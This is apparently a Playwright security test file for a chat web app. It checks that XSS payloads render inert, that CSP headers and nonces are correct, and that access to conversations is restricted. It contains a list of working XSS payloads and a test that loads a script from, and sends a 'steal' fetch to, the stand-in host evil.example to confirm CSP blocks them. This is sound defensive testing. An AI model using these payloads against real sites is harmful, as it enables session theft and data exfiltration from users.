// XSS and Content-Security-Policy in the browser, on the production build (issue #7).
// - A corpus of script/HTML/URL payloads goes into message bodies, user names and group names
//   through the real API; the victim's browser renders them: no dialog, no script run
//   (window.__xss stays undefined), no injected element, no javascript: link, text shown literally.
// - The CSP header is sent on pages and API responses; the main pages run without a single CSP
//   violation (realtime websocket included); a foreign script and a foreign fetch are blocked.
import { expect, test, type Page } from "@playwright/test";
import { ChatApp, personQuery } from "./pages/chat-app";
import { newUser, registerViaApi, type TestUser } from "./support/users";

const PAYLOADS = [
  `<img src=x onerror="window.__xss=1" data-xss>`,
  `<script data-xss>window.__xss=1</script>`,
  `<svg data-xss onload=alert(1)>`,
  `<iframe data-xss src="javascript:alert(1)"></iframe>`,
  `<a data-xss href="javascript:alert(1)">click me</a>`,
  `"><img src=x onerror=alert(1) data-xss>`,
  `'-alert(1)-'`,
  `javascript:alert(1)`,
  `[click](javascript:alert(1))`,
  `<details data-xss open ontoggle=alert(1)>`,
  `<math><mi xlink:href="javascript:alert(1)" data-xss>x</mi></math>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `<style data-xss>*{display:none}</style>`,
  `<object data-xss data="data:text/html,<script>alert(1)</script>">`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<form data-xss action="https://evil.example"><button>go</button></form>`,
  `<body onload=alert(1) data-xss>`,
  `\u202E<img src=x onerror=alert(1) data-xss>`,
];
/** Shorter payloads for names (display names and group names have length limits). */
const NAME_PAYLOADS = [`<img src=x onerror=alert(1) data-xss>`, `<svg data-xss onload=alert(1)>`, `"><script>alert(1)</script>`];

async function armPage(page: Page) {
  const dialogs: string[] = [];
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[]; __cspIgnored: string[] };
    w.__csp = [];
    w.__cspIgnored = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      // zod 4 probes `new Function("")` once inside try/catch (util.allowsEval) to pick its fast
      // path; CSP refuses it, zod falls back, nothing breaks: not a violation of the app's own.
      // With 'report-sample' the sample is the probed code: empty, or Chrome's wrapper of an empty body.
      if (e.blockedURI === "eval" && /^\(?(function anonymous\(\s*\)\s*\{\s*\}\)?)?$/.test(e.sample.trim())) {
        w.__cspIgnored.push(`${e.violatedDirective} ${e.blockedURI} sample=${JSON.stringify(e.sample)} ${e.sourceFile}`);
        return;
      }
      w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`);
    });
  });
  return dialogs;
}

async function assertInert(page: Page) {
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    injected: document.querySelectorAll("[data-xss]").length,
    jsLinks: [...document.querySelectorAll("a[href]")].filter((a) => /^\s*(javascript|data|vbscript):/i.test(a.getAttribute("href") ?? ""))
      .length,
    iframes: document.querySelectorAll("iframe, object, embed").length,
    unexpectedImages: [...document.querySelectorAll("img")].filter((img) => img.getAttribute("src") === "x").length,
  }));
  expect(state).toEqual({ xss: undefined, injected: 0, jsLinks: 0, iframes: 0, unexpectedImages: 0 });
}

async function api(page: Page, baseURL: string, method: "post" | "get", path: string, data?: unknown) {
  const response = await page.request[method](path, { data, headers: { Origin: baseURL } });
  return { status: response.status(), body: (await response.json().catch(() => null)) as Record<string, unknown> | null };
}

test.describe("XSS payloads render inert", () => {
  test("message bodies, user names and group names from the API", async ({ browser, baseURL, request }) => {
    test.setTimeout(120_000);
    // Attackers whose display names are payloads (when the name rules accept them).
    const attackers: TestUser[] = [];
    for (const name of NAME_PAYLOADS) {
      const user = { ...newUser("attacker"), name };
      const response = await request.post("/api/auth/register", { data: user, headers: { Origin: baseURL! } });
      attackers.push(response.status() === 201 ? user : await registerViaApi(request, baseURL!, newUser("attacker")));
    }
    const victim = await registerViaApi(request, baseURL!, newUser("victim"));
    const attacker = attackers[0]!;

    const mallory = await ChatApp.signedIn(browser, attacker);
    // Strangers are found by exact @username (issue 15), not by name.
    const victimUser = await api(mallory.page, baseURL!, "get", `/api/users?query=${encodeURIComponent(personQuery(victim).query)}`);
    const victimId = (victimUser.body!.users as { id: string }[])[0]!.id;
    const otherIds: string[] = [];
    for (const a of attackers.slice(1)) {
      const found = await api(mallory.page, baseURL!, "get", `/api/users?query=${encodeURIComponent(personQuery(a).query)}`);
      otherIds.push(...(found.body!.users as { id: string }[]).map((u) => u.id));
    }

    const direct = await api(mallory.page, baseURL!, "post", "/api/conversations", { type: "direct", userId: victimId });
    expect([200, 201]).toContain(direct.status);
    const directId = (direct.body!.conversation as { id: string }).id;
    const groupNames: string[] = [];
    for (const name of NAME_PAYLOADS.slice(0, 2)) {
      const group = await api(mallory.page, baseURL!, "post", "/api/conversations", {
        type: "group",
        name,
        memberIds: [victimId, ...otherIds],
      });
      expect(group.status, JSON.stringify(group.body)).toBe(201);
      groupNames.push(name);
    }
    for (const body of PAYLOADS) {
      const sent = await api(mallory.page, baseURL!, "post", `/api/conversations/${directId}/messages`, { id: crypto.randomUUID(), body });
      expect(sent.status, JSON.stringify(sent.body)).toBe(201);
    }

    const alice = await ChatApp.signedIn(browser, victim);
    const dialogs = await armPage(alice.page);
    await alice.page.reload();
    await expect(alice.page.getByRole("heading", { name: "Chats", level: 1 })).toBeVisible();
    // The sidebar shows the payload names as text.
    for (const name of groupNames) await expect(alice.conversationLink(name).first()).toBeVisible();
    await assertInert(alice.page);

    // The direct chat shows every payload body literally.
    await alice.page.goto(`/chat/${directId}`);
    await expect(alice.log).toBeVisible();
    for (const body of PAYLOADS.slice(-3)) await expect(alice.log.getByText(body.trim(), { exact: false }).first()).toBeVisible();
    await assertInert(alice.page);

    // A payload arriving live (realtime event → store → render) is inert too.
    const live = `<img src=x onerror="window.__xss=2" data-xss> live ${Date.now()}`;
    await api(mallory.page, baseURL!, "post", `/api/conversations/${directId}/messages`, { id: crypto.randomUUID(), body: live });
    await expect(alice.log.getByText(live)).toBeVisible();
    await assertInert(alice.page);

    // Each group with a payload name, opened.
    const groups = await api(alice.page, baseURL!, "get", "/api/conversations");
    for (const c of groups.body!.conversations as { id: string; isGroup: boolean; name: string | null }[]) {
      if (!c.isGroup) continue;
      await alice.page.goto(`/chat/${c.id}`);
      await expect(alice.conversationHeading(c.name!)).toBeVisible();
      await assertInert(alice.page);
    }

    expect(dialogs).toEqual([]);
    expect(await alice.page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    await mallory.close();
    await alice.close();
  });
});

test.describe("Content-Security-Policy", () => {
  test("is sent on pages and API responses", async ({ request }) => {
    for (const path of ["/", "/sign-in", "/sign-up", "/api/health"]) {
      const response = await request.get(path, { maxRedirects: 0 });
      const csp = response.headers()["content-security-policy"] ?? "";
      expect(csp, path).toContain(path.startsWith("/api/") ? "default-src 'none'" : "default-src 'self'");
      expect(csp, path).toContain("object-src 'none'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(response.headers()["x-content-type-options"]).toBe("nosniff");
      expect(response.headers()["x-frame-options"]).toBe("DENY");
    }
  });

  test("on pages: computed per request — a fresh nonce on every inline script, no 'unsafe-inline', the realtime port of this run", async ({
    request,
  }) => {
    const nonces = new Set<string>();
    for (const path of ["/", "/sign-in", "/sign-up", "/sign-in"]) {
      const response = await request.get(path);
      const csp = response.headers()["content-security-policy"] ?? "";
      const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? "";
      expect(scriptSrc, path).not.toContain("'unsafe-inline'");
      const nonce = /'nonce-([^']+)'/.exec(scriptSrc)?.[1];
      expect(nonce, path).toBeTruthy();
      nonces.add(nonce!);
      // The embedded realtime server's port is chosen at start-up (after `next build`): exactly it.
      expect(csp, path).toMatch(/connect-src 'self' ws:\/\/127\.0\.0\.1:\d+(;|$)/);
      const html = await response.text();
      const inline = [...html.matchAll(/<script(?![^>]*\ssrc=)([^>]*)>/g)].map((m) => m[1]!);
      expect(inline.length, path).toBeGreaterThan(0);
      // Every inline script carries this response's nonce, except the theme boot script (allowed by its hash).
      expect(
        inline.filter((attrs) => !attrs.includes(`nonce="${nonce}"`)),
        path,
      ).toHaveLength(1);
    }
    expect(nonces.size).toBe(4);
  });

  test("the main pages work under it: no violation on sign-up, sign-in, chat (with realtime), settings", async ({
    browser,
    baseURL,
    request,
  }) => {
    test.setTimeout(90_000);
    const page = await (await browser.newContext()).newPage();
    const dialogs = await armPage(page);
    const consoleCsp: string[] = [];
    page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
    });
    for (const path of ["/", "/sign-up", "/sign-in"]) {
      await page.goto(path);
      await page.waitForLoadState("networkidle");
    }
    const me = await registerViaApi(request, baseURL!, newUser("csp"));
    const friend = await registerViaApi(request, baseURL!, newUser("cspfriend"));
    const app = await ChatApp.signedIn(browser, me);
    await armPage(app.page);
    app.page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
    });
    await app.page.reload();
    await app.startChatWith(friend);
    const other = await ChatApp.signedIn(browser, friend);
    await other.openConversation(me.name);
    await app.send(`hello under CSP ${Date.now()}`);
    await expect(other.log.getByText(/hello under CSP/)).toBeVisible(); // delivered over the realtime websocket
    await app.page.goto("/settings");
    await app.page.waitForLoadState("networkidle");
    const ignored = await app.page.evaluate(() => (window as unknown as { __cspIgnored: string[] }).__cspIgnored);
    test.info().annotations.push({ type: "ignored CSP reports (zod eval probe)", description: JSON.stringify(ignored) });
    console.log(`ignored CSP reports: ${JSON.stringify(ignored)}`);
    expect(await app.page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    expect(consoleCsp).toEqual([]);
    expect(dialogs).toEqual([]);
    await app.close();
    await other.close();
  });

  test("blocks a foreign script and a foreign fetch (reported as violations)", async ({ page }) => {
    await armPage(page);
    await page.goto("/sign-in");
    const result = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.head.appendChild(script);
      let fetched = true;
      try {
        await fetch("https://evil.example/steal?c=1");
      } catch {
        fetched = false;
      }
      await new Promise((r) => setTimeout(r, 300));
      return { fetched, violations: (window as unknown as { __csp: string[] }).__csp };
    });
    expect(result.fetched).toBe(false);
    expect(result.violations.some((v) => v.startsWith("script-src"))).toBe(true);
    expect(result.violations.some((v) => v.startsWith("connect-src"))).toBe(true);
  });

  test("NextAuth's own endpoints answer anonymous callers (declared as notInProcess in the authz matrix)", async ({ request }) => {
    for (const path of ["/api/auth/providers", "/api/auth/session", "/api/auth/csrf"]) {
      expect((await request.get(path)).status(), path).toBe(200);
    }
  });
});

test.describe("Conversation pages", () => {
  test("a conversation I am not in answers HTTP 404, like an unknown one (not a 200 streamed not-found page)", async ({
    browser,
    baseURL,
    request,
  }) => {
    const owner = await registerViaApi(request, baseURL!, newUser("owner"));
    const friend = await registerViaApi(request, baseURL!, newUser("friend"));
    const outsider = await registerViaApi(request, baseURL!, newUser("outsider"));
    const app = await ChatApp.signedIn(browser, owner);
    const direct = await api(app.page, baseURL!, "post", "/api/conversations", { type: "direct", userId: friend.id });
    const id = (direct.body!.conversation as { id: string }).id;
    expect((await app.page.request.get(`/chat/${id}`)).status()).toBe(200);
    const stranger = await ChatApp.signedIn(browser, outsider);
    for (const path of [`/chat/${id}`, `/chat/${crypto.randomUUID()}`, "/chat/not-an-id"]) {
      const response = await stranger.page.request.get(path);
      expect(response.status(), path).toBe(404);
      expect(await response.text(), path).toContain("Conversation not found");
    }
    await stranger.page.goto(`/chat/${id}`);
    await expect(stranger.page.getByRole("heading", { name: "Conversation not found" })).toBeVisible();
    await app.close();
    await stranger.close();
  });
});
